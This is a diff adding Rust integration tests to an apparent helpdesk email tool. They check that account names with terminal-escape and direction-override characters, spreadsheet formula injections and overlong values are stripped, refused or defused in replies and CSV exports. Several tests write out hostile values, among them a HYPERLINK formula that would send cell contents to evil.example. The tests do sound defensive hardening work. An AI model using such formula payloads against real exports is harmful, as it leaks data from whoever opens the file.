@@ -1,0 +1,144 @@
+//! Issue 13: what an outside probe found in intake and exports, each pinned by a test named
+//! for it, through the real binary.
+
+mod support;
+
+use serde_json::Value;
+use support::Instance;
+
+const PASS: &str = "Authentication-Results: mail.nhs.example; dkim=pass header.d=nhs.example; dmarc=pass header.from=nhs.example";
+
+fn write(i: &Instance, name: &str, subject: &str, body: &str) -> std::path::PathBuf {
+    let raw = format!(
+        "{PASS}\r\nFrom: Rosehill Care <rosehill.care@nhs.example>\r\nTo: helpdesk@nhs.example\r\n\
+         Subject: {subject}\r\nMessage-ID: <{name}.hardening@nhs.example>\r\n\
+         Content-Type: text/plain; charset=utf-8\r\n\r\n{}",
+        body.replace('\n', "\r\n")
+    );
+    let path = i.dir.path().join(format!("{name}.eml"));
+    std::fs::write(&path, raw).unwrap();
+    path
+}
+
+fn new_starter(i: &Instance, file: &str, name: &str) -> Value {
+    let path = write(
+        i,
+        file,
+        "New starter",
+        &format!(
+            "Please create an account.\n\nName: {name}\nJob title: Carer\nRequested by: jane.doe@nhs.example\n"
+        ),
+    );
+    i.process(&[path.as_path()], false).remove(0)
+}
+
+#[test]
+fn control_characters_never_reach_the_directory_the_export_or_the_reply() {
+    let i = Instance::with_directory("");
+    let v = new_starter(&i, "escape", "Eve\u{1b}[2J\u{7}\u{8} Ev\u{202E}il\u{200B}");
+    assert_eq!(v["outcome"], "applied", "{v}");
+    let export = i.export();
+    assert!(export.contains("Eve[2J Evil"), "{export}");
+    for bad in ['\u{1b}', '\u{7}', '\u{8}', '\u{202E}', '\u{200B}'] {
+        assert!(!export.contains(bad), "{bad:?} in {export:?}");
+        let body = v["reply"]["body"].as_str().unwrap();
+        assert!(!body.contains(bad), "{bad:?} in the reply");
+    }
+}
+
+#[test]
+fn a_formula_name_is_refused_by_email_and_by_csv_import() {
+    let i = Instance::with_directory("");
+    let before = i.export();
+    let v = new_starter(
+        &i,
+        "formula",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    );
+    assert_eq!(v["outcome"], "rejected", "{v}");
+    assert_eq!(v["reason"], "bad_name", "{v}");
+    assert_eq!(i.export(), before, "nothing was created");
+
+    let csv = i.dir.path().join("formula.csv");
+    std::fs::write(
+        &csv,
+        "organisation,mailbox,account,name,role,status\n\
+         Rosehill Care,,ok.person@nhs.example,Ok Person,,active\n\
+         Rosehill Care,,evil@nhs.example,@SUM(1+1),,active\n",
+    )
+    .unwrap();
+    let out = i
+        .cmd()
+        .args(["directory", "import", csv.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("line 3"), "{err}");
+    assert!(err.contains("formula"), "{err}");
+    assert_eq!(
+        i.export(),
+        before,
+        "all or nothing: the good row was not applied either"
+    );
+}
+
+#[test]
+fn the_directory_export_defuses_formula_cells() {
+    // A name stored before names were checked (written straight into the database).
+    let i = Instance::with_directory("");
+    let database = i.database();
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        let store = postroom::store::Store::open(&database).await.unwrap();
+        sqlx::query("UPDATE accounts SET name = '=HYPERLINK(\"http://evil.example\")' WHERE address = 'tom.smith@nhs.example'")
+            .execute(store.pool())
+            .await
+            .unwrap();
+        store.close().await;
+    });
+    let export = i.export();
+    let line = export
+        .lines()
+        .find(|l| l.contains("tom.smith@nhs.example"))
+        .unwrap();
+    assert!(line.contains("'=HYPERLINK"), "{line}");
+}
+
+#[test]
+fn a_long_name_is_refused_instead_of_making_an_invalid_address() {
+    let i = Instance::with_directory("");
+    let before = i.export();
+    let v = new_starter(&i, "long", &format!("{} Smith", "A".repeat(500)));
+    assert_eq!(v["outcome"], "rejected", "{v}");
+    assert_eq!(v["reason"], "bad_name", "{v}");
+    // Short enough to keep, too long for an address (RFC 5321: 64 before the @).
+    let v = new_starter(
+        &i,
+        "long-address",
+        &format!("{} {}", "Bartholomew".repeat(3), "Montgomery".repeat(3)),
+    );
+    assert_eq!(v["outcome"], "rejected", "{v}");
+    assert_eq!(v["reason"], "bad_name", "{v}");
+    assert_eq!(i.export(), before);
+}
+
+#[test]
+fn a_huge_subject_gives_a_bounded_reply_subject() {
+    let i = Instance::with_directory("");
+    let subject = format!("Password reset {}", "x".repeat(200_000));
+    let path = write(
+        &i,
+        "huge-subject",
+        &subject,
+        "Account: tom.smith@nhs.example\nRequested by: jane.doe@nhs.example\n",
+    );
+    let v = i.process(&[path.as_path()], false).remove(0);
+    let reply_subject = v["reply"]["subject"].as_str().unwrap();
+    assert!(
+        reply_subject.chars().count() < 200,
+        "{}",
+        reply_subject.len()
+    );
+    assert!(reply_subject.ends_with('…'), "{reply_subject}");
+}
